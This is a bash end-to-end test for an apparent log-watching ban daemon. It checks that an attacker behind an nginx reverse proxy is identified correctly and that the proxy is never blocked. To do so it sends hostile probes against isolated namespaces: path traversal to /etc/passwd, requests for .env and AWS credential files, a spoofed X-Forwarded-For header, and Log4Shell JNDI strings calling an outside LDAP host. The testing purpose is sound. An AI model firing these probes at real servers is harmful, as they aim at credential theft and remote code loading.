#!/bin/bash
# nginx behind nginx: who attacks through a proxy is named, the proxy never
# is, and why and doctor say that this kernel cannot stop him.
# shellcheck source=tests/lib/e2e.sh
. "$(dirname "$0")/../lib/e2e.sh"
need root nft ip nginx curl jq
plan 12
lpt() { in_space back "$BUILD/liptako" "$@" --run "$T/run"; }

space thief; space front; space back
wire thief 10.67.1.2/24 front 10.67.1.1/24
wire front 10.67.2.2/24 back 10.67.2.1/24

web() { # SPACE LISTEN BODY
	mkdir -p "$T/$1/tmp"
	cat >"$T/$1/nginx.conf" <<-EOF
		daemon off; pid $T/$1/pid; error_log $T/$1/error.log;
		events { worker_connections 64; }
		http {
			log_format behind '\$remote_addr - \$remote_user [\$time_local] "\$request" '
				'\$status \$body_bytes_sent "\$http_referer" "\$http_user_agent" "\$http_x_forwarded_for"';
			access_log $T/$1/access.log behind;
			client_body_temp_path $T/$1/tmp/b; proxy_temp_path $T/$1/tmp/p;
			fastcgi_temp_path $T/$1/tmp/f; uwsgi_temp_path $T/$1/tmp/u;
			scgi_temp_path $T/$1/tmp/s;
			server { listen $2; $3 }
		}
	EOF
	spawn in_space "$1" nginx -c "$T/$1/nginx.conf" 2>"$T/$1/stderr"
}
web back 10.67.2.1:80 'location = / { return 200 "hello"; } location / { return 404; }'
web front 10.67.1.1:80 'location / { proxy_pass http://10.67.2.1;
	proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for; }'
get() { in_space thief curl -s -o /dev/null -m 2 -A "${AGENT:-Mozilla/5.0}" -H "${HEAD:-X-A: b}" "http://10.67.1.1$1"; }
ok "the site answers through the proxy" until_true 20 get /

start() { # NAME CONF-LINES
	mkdir "$T/$1"
	printf '%s\n' "find: no" "sources:" "- file: $T/back/access.log" \
		"  service: web" "$2" >"$T/$1/conf"
	spawn in_space back "$BUILD/liptakod" --foreground --rules "$TOP/rules" \
		--config "$T/$1/conf" --state "$T/$1/state" --run "$T/run" \
		>"$T/$1/log" 2>&1
	DAEMON=$PID
	until_true 20 reads_log
}
# The reader has compiled its rules and a request was seen.
reads_log() {
	get /
	lpt status --json >"$T/status.json" 2>/dev/null
	json_has "$T/status.json" '.sources[] | select(.lines > 0)'
}
stop() { kill "$DAEMON"; until_true 20 not kill -0 "$DAEMON" 2>/dev/null; }
attack() {
	for p in /.env /.git/config /../../etc/passwd '/?x=${jndi:ldap://x/a}' /wp-config.php.bak /.aws/credentials; do
		get "$p"
	done
	AGENT='${jndi:ldap://192.0.2.66/a}' get /
}

ok "with the proxy trusted it starts" start trusted "  client: forwarded
trusted-proxies: [10.67.2.2]"
HEAD='X-Forwarded-For: 192.0.2.99' attack
named() { lpt why "$1" --json >"$T/why.json" 2>"$T/why.err"; json_has "$T/why.json" ".measures[0].rule // empty"; }
ok "the attacker behind it is named" until_true 20 named 10.67.1.2
[ -z "${SHOW:-}" ] || cat "$T/why.json" "$T/why.err"
ok "whom he pretends to forward for is not" not named 192.0.2.99
ok "the proxy is not" not named 10.67.2.2
lpt why 10.67.1.2 >"$T/why" 2>&1
ok "why says that the kernel cannot stop him here" grep -qi "bouncer" "$T/why"
lpt doctor >"$T/doctor" 2>&1
ok "doctor says so too" grep -qi "bouncer" "$T/doctor"
ok "the site still answers through the proxy" get /
[ -z "${SHOW:-}" ] || { lpt status; tail -3 "$T/back/access.log"; cat "$T/trusted/log"; }
stop

ok "without a word about the proxy it starts" start blind ""
for _ in $(seq 1200); do echo "url = \"http://10.67.1.1/\""; echo "output = /dev/null"; done >"$T/urls"
in_space thief curl -s -m 60 -K "$T/urls"
proxied() { lpt doctor >"$T/doctor2" 2>&1; grep -q 10.67.2.2 "$T/doctor2"; }
ok "who makes most successful requests is taken for a proxy" until_true 20 proxied
attack
sleep 1
ok "and never shut out" get /
lpt list --json >"$T/list.json"
ok "the kernel holds nothing of it" not json_has "$T/list.json" '.. | .net? // empty | select(startswith("10.67.2.2"))'
[ -z "${SHOW:-}" ] || cat "$T/why" "$T/doctor" "$T/doctor2" "$T/blind/log" "$T/list.json"
